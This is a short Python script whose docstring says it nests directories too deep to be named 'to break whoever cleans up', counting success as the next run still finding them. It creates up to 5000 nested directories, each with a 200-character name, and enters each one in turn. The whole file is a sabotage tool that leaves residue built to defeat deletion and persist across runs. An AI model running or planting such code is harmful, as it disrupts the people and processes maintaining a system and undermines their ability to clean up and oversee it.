"""Nests directories too deep to be named, to break whoever cleans up. Success: the next run finds them."""

import os

depth = 0
try:
    while depth < 5000:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        depth += 1
except OSError as error:
    print("refused:", error)
print("done")
